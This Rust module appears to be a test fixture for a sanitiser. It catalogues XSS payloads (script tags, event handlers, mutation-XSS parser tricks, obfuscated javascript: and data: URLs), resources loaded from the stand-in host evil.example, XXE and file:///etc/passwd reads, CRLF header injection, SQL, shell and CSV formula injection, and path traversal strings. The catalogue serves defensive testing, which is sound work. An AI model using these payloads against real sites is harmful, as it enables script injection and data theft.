//! The attacks, as texts that are put wherever somebody else's words go.
//!
//! All that could run calls [`CANARY`], and all that could be fetched is on [`ELSEWHERE`], so
//! that one look tells whether anything did.

/// The function that no attack may get to call.
pub(crate) const CANARY: &str = "pwned";

/// A host that no page may ask for anything.
pub(crate) const ELSEWHERE: &str = "evil.example";

/// Markup that runs something, or loads it, in the ways that browsers know.
const MARKUP: &[(&str, &str)] = &[
    ("script", "<script>pwned()</script>"),
    ("script-src", "<script src=//evil.example/x.js></script>"),
    ("script-case", "<ScRiPt >pwned()</sCrIpT\t\n>"),
    ("script-open", "<script>pwned()//"),
    ("script-split", "<scr<script>ipt>pwned()</scr</script>ipt>"),
    (
        "script-module",
        "<script type=module>import'//evil.example/x.js'</script>",
    ),
    ("script-nul", "<scr\0ipt>pwned()</scr\0ipt>"),
    ("img-error", "<img src=x onerror=pwned()>"),
    ("img-slash", "<img/src=x/onerror=pwned()>"),
    ("img-quotes", "<img src=\"x\"onerror='pwned()'>"),
    ("img-backtick", "<img src=`x`onerror=pwned()>"),
    (
        "img-srcset",
        "<img srcset=\"//evil.example/a 1x\" src=x lazyload onload=pwned()>",
    ),
    ("svg-load", "<svg onload=pwned()>"),
    ("svg-script", "<svg><script>pwned()</script></svg>"),
    ("svg-entity", "<svg><script>pwned&#40;&#41;</script></svg>"),
    (
        "svg-animate",
        "<svg><a><animate attributeName=href values=javascript:pwned() /><text y=20>x</text></a></svg>",
    ),
    (
        "svg-use",
        "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='pwned()'/></svg>#x\"/></svg>",
    ),
    (
        "svg-foreign",
        "<svg><foreignObject><iframe xmlns=http://www.w3.org/1999/xhtml srcdoc=&lt;script&gt;parent.pwned()&lt;/script&gt;></iframe></foreignObject></svg>",
    ),
    (
        "math-href",
        "<math><mi xlink:href=javascript:pwned()>x</mi><maction actiontype=statusline href=javascript:pwned()>y</maction></math>",
    ),
    (
        "iframe-src",
        "<iframe src=javascript:parent.pwned()></iframe>",
    ),
    (
        "iframe-srcdoc",
        "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    ),
    (
        "object",
        "<object data=javascript:pwned()></object><embed src=//evil.example/x.swf>",
    ),
    (
        "object-param",
        "<object><param name=src value=javascript:pwned()></object>",
    ),
    ("base", "<base href=//evil.example/><base target=_top>"),
    (
        "meta-refresh",
        "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    ),
    (
        "meta-policy",
        "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    ),
    (
        "link-styles",
        "<link rel=stylesheet href=//evil.example/x.css>",
    ),
    (
        "link-import",
        "<link rel=import href=//evil.example/x.html><link rel=prefetch href=//evil.example/p>",
    ),
    (
        "style",
        "<style>@import '//evil.example/x.css';*{background:url(//evil.example/b)}</style>",
    ),
    (
        "style-attribute",
        "<p style=\"position:fixed;inset:0;background:url(//evil.example/b)\">x</p>",
    ),
    (
        "style-expression",
        "<b style=\"width:expression(pwned());-moz-binding:url(//evil.example/x.xml#b)\">x</b>",
    ),
    (
        "body",
        "<body onload=pwned() background=//evil.example/b><frameset onload=pwned()>",
    ),
    (
        "details",
        "<details open ontoggle=pwned()><summary>x</summary>y</details>",
    ),
    (
        "input",
        "<input autofocus onfocus=pwned()><select autofocus onfocus=pwned()></select>",
    ),
    (
        "textarea",
        "<textarea autofocus onfocus=pwned()></textarea><keygen autofocus onfocus=pwned()>",
    ),
    (
        "form",
        "<form action=javascript:pwned()><button>Search</button></form>",
    ),
    (
        "button-form",
        "<button form=x formaction=javascript:pwned()>x</button><isindex action=javascript:pwned() type=image>",
    ),
    (
        "video",
        "<video><source onerror=pwned()></video><audio src=x onerror=pwned()>",
    ),
    (
        "video-poster",
        "<video poster=//evil.example/p src=//evil.example/v></video>",
    ),
    (
        "marquee",
        "<marquee onstart=pwned()>x</marquee><bgsound src=javascript:pwned()>",
    ),
    (
        "animation",
        "<p onanimationstart=pwned() class=told id=df-root>x</p>",
    ),
    (
        "popover",
        "<button popovertarget=x>y</button><div popover id=x onbeforetoggle=pwned()>z</div>",
    ),
    (
        "dialog",
        "<dialog open id=df-message>Log in: <input type=password></dialog>",
    ),
    (
        "shadow",
        "<div><template shadowrootmode=open><script>pwned()</script><slot></slot></template></div>",
    ),
    (
        "custom-element",
        "<dayfold-digest src=https://evil.example/></dayfold-digest><x-y onclick=pwned()>z</x-y>",
    ),
    (
        "slot",
        "<slot name=x onslotchange=pwned()></slot><portal src=//evil.example/></portal>",
    ),
    (
        "xss-event-case",
        "<P OnClIcK=pwned() ONMOUSEOVER=pwned()>x</P>",
    ),
    (
        "event-control",
        "<p \u{1}onclick=pwned() on\0click=pwned() \u{c}onclick=pwned()>x</p>",
    ),
    (
        "comment-conditional",
        "<!--[if gte IE 4]><script>pwned()</script><![endif]-->",
    ),
    (
        "comment-bang",
        "<!--><script>pwned()</script>--><!--x--!><img src=x onerror=pwned()>",
    ),
    ("comment-open", "<!-- <script>pwned()</script>"),
    (
        "bogus",
        "<?php echo '<script>pwned()</script>' ?><!x <script>pwned()</script>></ <img src=x onerror=pwned()>>",
    ),
    ("cdata", "<![CDATA[<script>pwned()</script>]]>"),
    ("cdata-end", "]]><script>pwned()</script><![CDATA["),
    (
        "doctype",
        "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\"><!ENTITY z \"<script>pwned()</script>\">]>&y;&z;",
    ),
    (
        "xml-pi",
        "<?xml-stylesheet href=\"javascript:pwned()\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">pwned()</x:script>",
    ),
];

/// What a sanitiser and a browser read in different ways, so that what is vetted is not what is
/// shown.
const MUTATION: &[(&str, &str)] = &[
    (
        "noscript",
        "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\"></noscript>",
    ),
    (
        "noscript-style",
        "<noscript><style></noscript><img src=x onerror=pwned()></style>",
    ),
    (
        "title-quote",
        "<p title=\"</title></textarea></style></script><img src=x onerror=pwned()>\">x</p>",
    ),
    (
        "svg-style",
        "<svg><style><img src=x onerror=pwned()></style></svg>",
    ),
    (
        "svg-p-style",
        "<svg></p><style><a title=\"</style><img src=x onerror=pwned()>\"></svg>",
    ),
    (
        "math-style",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned()&gt;\">",
    ),
    (
        "math-annotation",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=pwned()></style></annotation-xml></math>",
    ),
    (
        "form-nested",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>",
    ),
    (
        "template-nested",
        "<template><svg><template><style></template></svg><img src=x onerror=pwned()></style></template>",
    ),
    (
        "select-nested",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=pwned()>\">",
    ),
    (
        "table-foster",
        "<table><tr><td><a href=\"javascript:pwned()\"><table><a href=//evil.example/>x</a></table></a></td><img src=x onerror=pwned()></tr></table>",
    ),
    (
        "textarea-breakout",
        "<textarea></textarea><img src=x onerror=pwned()></textarea>",
    ),
    (
        "xmp",
        "<xmp><p title=\"</xmp><img src=x onerror=pwned()>\"></xmp><plaintext><script>pwned()</script>",
    ),
    (
        "noembed",
        "<noembed><p title=\"</noembed><img src=x onerror=pwned()>\"><noframes><p title=\"</noframes><img src=x onerror=pwned()>\">",
    ),
    (
        "entity-twice",
        "&lt;script&gt;pwned()&lt;/script&gt; &amp;lt;img src=x onerror=pwned()&amp;gt;",
    ),
    (
        "entity-no-semicolon",
        "&ltscript&gtpwned()&lt/script&gt &#x3cimg src=x onerror=pwned()&#62",
    ),
    (
        "desc-breakout",
        "<svg><desc><b><svg><title></desc><img src=x onerror=pwned()>",
    ),
    (
        "markdown-link",
        "[x](javascript:pwned()) [y](<javascript:pwned()>) ![z](javascript:pwned()) <javascript:pwned()>",
    ),
    (
        "markdown-reference",
        "[x][1]\n\n[1]: javascript:pwned() \"t\" onclick=pwned()",
    ),
    (
        "markdown-title",
        "[x](https://a.example/ \"\\\" onmouseover=pwned() \") ![\" onerror=pwned() x=\"](y)",
    ),
    (
        "markdown-attributes",
        "[x](https://a.example/){onclick=pwned() #df-root .told style=\"color:red\"}",
    ),
    (
        "markdown-code",
        "```html onload=pwned()\n</code></pre><script>pwned()</script>\n```\n`<img src=x onerror=pwned()>`",
    ),
    (
        "markdown-html",
        "<div markdown=1 onclick=pwned()>\n*x* <script>pwned()</script>\n</div>",
    ),
    (
        "entity-mark",
        "Nvidia [finance:NVIDIA\" onclick=\"pwned()] and X [<b>:<img src=x onerror=pwned()>]",
    ),
    (
        "data-element",
        "<data value='\"><script>pwned()</script>'>x</data><data value=x onclick=pwned()>y</data>",
    ),
];

/// Addresses that are none of the web, in all their spellings.
const ADDRESSES: &[(&str, &str)] = &[
    ("javascript", "javascript:pwned()"),
    ("javascript-case", "JaVaScRiPt:pwned()"),
    ("javascript-tab", "java\tscript:pwned()"),
    ("javascript-lines", "j\na\rv\na\rscript\n:pwned()"),
    ("javascript-leading", " \u{1}\u{1f}javascript:pwned()"),
    ("javascript-nul", "java\0script:pwned()"),
    (
        "javascript-entity",
        "&#106;avascript&colon;pwned&lpar;&rpar;",
    ),
    ("javascript-hex", "&#x6A;&#x0000061;vascript&#58;pwned()"),
    ("javascript-entity-tab", "jav&Tab;ascript&NewLine;:pwned()"),
    (
        "javascript-percent",
        "javascript%3Apwned() %6Aavascript:pwned()",
    ),
    ("javascript-comment", "javascript://a.example/%0Apwned()"),
    ("javascript-wide", "ｊavascript：pwned()"),
    ("javascript-invisible", "java\u{200b}script\u{ad}:pwned()"),
    ("vbscript", "vbscript:pwned()"),
    (
        "livescript",
        "livescript:pwned() mocha:pwned() feed:javascript:pwned() view-source:javascript:pwned()",
    ),
    ("data-html", "data:text/html,<script>pwned()</script>"),
    (
        "data-base64",
        "DATA:text/html;charset=utf-8;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    ),
    (
        "data-svg",
        "data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>",
    ),
    ("file", "file:///etc/passwd"),
    (
        "blob",
        "blob:https://evil.example/1 filesystem:https://evil.example/x",
    ),
    ("about", "about:blank#<script>pwned()</script>"),
    ("protocol-relative", "//evil.example/x"),
    (
        "backslashes",
        "\\\\evil.example\\x /\\evil.example/x https:\\\\evil.example",
    ),
    ("tab-relative", "/\t/evil.example/x"),
    (
        "credentials",
        "https://a.example@evil.example/ https://a.example:b@evil.example:80/\"onclick=pwned()",
    ),
    ("quotes", "https://a.example/\"onmouseover=\"pwned()\"x='"),
    ("quote-single", "https://a.example/'onmouseover='pwned()"),
    ("brackets", "https://a.example/><script>pwned()</script>"),
    (
        "fragment",
        "https://a.example/#\"><img src=x onerror=pwned()>",
    ),
    ("no-host", "https:pwned() http:///x https://"),
    (
        "ipv6",
        "http://[::1]/\"onclick=pwned() http://[<script>pwned()</script>]/",
    ),
    (
        "mailto",
        "mailto:a@b.example?subject=<script>pwned()</script>%0d%0aBcc:x@evil.example",
    ),
];

/// Texts that break out of what they are put into, clobber what a page goes by, lead to other
/// files, or are just too much.
const TEXTS: &[(&str, &str)] = &[
    ("quote-double", "\"><script>pwned()</script><x y=\""),
    (
        "quote-attribute",
        "\" onmouseover=\"pwned()\" autofocus onfocus=\"pwned()\" x=\"",
    ),
    ("quote-apostrophe", "' onmouseover='pwned()' x='"),
    ("script-end", "</script><script>pwned()</script>"),
    ("script-end-space", "</script\t><img src=x onerror=pwned()>"),
    ("script-comment", "<!--<script>pwned()</script>"),
    ("title-end", "</title><script>pwned()</script>"),
    ("style-end", "</style><script>pwned()</script>"),
    (
        "json-escape",
        "\\\"},\"x\":\"\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    ),
    ("json-surrogate", "\\ud800 \\udfff \\ud83d"),
    ("line-separators", "a\u{2028}pwned()\u{2029}b\u{85}c"),
    (
        "template-syntax",
        "{{constructor.constructor('pwned()')()}} ${pwned()} <%= pwned() %> #{pwned()}",
    ),
    (
        "front-matter",
        "x\n---\ntitle: <script>pwned()</script>\n---\n",
    ),
    ("yaml-tag", "!!js/function 'pwned()' &a [*a, *a] <<: *a"),
    (
        "toml-break",
        "\"\n[words]\nlatest = \"<script>pwned()</script>",
    ),
    (
        "header-break",
        "x\r\nSet-Cookie: a=b\r\n\r\n<script>pwned()</script>",
    ),
    ("redirect-break", "/x\n/* https://evil.example/:splat 301!"),
    (
        "nginx-break",
        "/x\"; } location / { return 301 https://evil.example; } #",
    ),
    ("clobber-location", "location"),
    ("clobber-document", "document"),
    ("clobber-prototype", "__proto__"),
    ("clobber-constructor", "constructor"),
    ("clobber-root", "df-root"),
    ("clobber-content", "df-content"),
    ("clobber-settings", "df settings"),
    ("clobber-body", "body"),
    ("clobber-cookie", "getElementById"),
    ("clobber-own", "pwned"),
    ("path-up", "../../../../../../pwned"),
    ("path-up-backslash", "..\\..\\..\\pwned"),
    ("path-absolute", "/tmp/pwned"),
    ("path-drive", "C:\\pwned"),
    ("path-percent", "%2e%2e%2f%2e%2e%2fpwned"),
    ("path-dots", "..."),
    ("path-hidden", ".htaccess"),
    ("path-host", "_headers"),
    ("path-device", "con"),
    ("path-stream", "a:b.html"),
    ("path-index", "index.html"),
    ("path-wide", "．．／．．／pwned"),
    (
        "bidi-override",
        "safe\u{202e}gpj.exe\u{202c} \u{2066}\u{2067}pwned",
    ),
    (
        "bidi-open",
        "\u{202e}\u{202d}\u{202a}\u{202b}\u{2066}\u{2067}\u{2068}",
    ),
    (
        "controls",
        "a\u{0}b\u{1}c\u{7}d\u{8}e\u{b}f\u{c}g\u{1b}[31mh\u{7f}i\u{80}j\u{9f}k",
    ),
    ("escape-sequence", "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m"),
    (
        "non-characters",
        "a\u{fffe}b\u{ffff}c\u{fdd0}d\u{1ffff}e\u{feff}f\u{e000}g",
    ),
    (
        "tags-invisible",
        "a\u{e0070}\u{e0077}\u{e006e}b\u{200b}\u{2060}\u{180e}c",
    ),
    (
        "zalgo",
        "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}a\u{488}\u{489}",
    ),
    ("empty", " \u{200b}\u{ad}\t"),
    ("format", "%s %n %x {0} {title} {n} $& $1 \\1 &nbsp;"),
    ("sql", "'; DROP TABLE days; --"),
    ("shell", "$(pwned) `pwned` ; pwned | pwned & pwned"),
    ("csv", "=cmd|' /C pwned'!A0"),
];

/// All attacks, each with a name that is a good name for a file.
pub(crate) fn attacks() -> Vec<(String, String)> {
    let mut all: Vec<(String, String)> = [MARKUP, MUTATION, ADDRESSES, TEXTS]
        .into_iter()
        .flatten()
        .map(|(name, text)| ((*name).to_owned(), (*text).to_owned()))
        .collect();
    // The same addresses in links, as HTML and Markdown write them.
    let links = ADDRESSES.iter().map(|(name, address)| {
        let text = format!(
            "<a href=\"{address}\">x</a><a href='{address}'>y</a><a href={address}>z</a>\
             <img src=\"{address}\" alt=i><q cite=\"{address}\">q</q> [m]({address}) ![n]({address})"
        );
        (format!("link-{name}"), text)
    });
    all.extend(links);
    let long = [
        ("deep", format!("{}x", "<div><b><ul><li>".repeat(2_000))),
        ("deep-quote", format!("{} x", "> ".repeat(3_000))),
        (
            "deep-svg",
            format!("{}<script>pwned()</script>", "<svg><g>".repeat(1_500)),
        ),
        (
            "deep-brackets",
            format!("{}x{}", "[".repeat(4_000), "](y)".repeat(4_000)),
        ),
        ("long-title", "<b>pwned()</b> ".repeat(3_000)),
        ("long-word", "W".repeat(40_000)),
        (
            "long-url",
            format!("https://a.example/{}", "x".repeat(40_000)),
        ),
        (
            "many-attributes",
            format!("<p {}>x</p>", "onclick=pwned() ".repeat(1_000)),
        ),
        ("many-emphasis", format!("{}x", "*_".repeat(3_000))),
    ];
    all.extend(long.map(|(name, text)| (name.to_owned(), text)));
    all
}
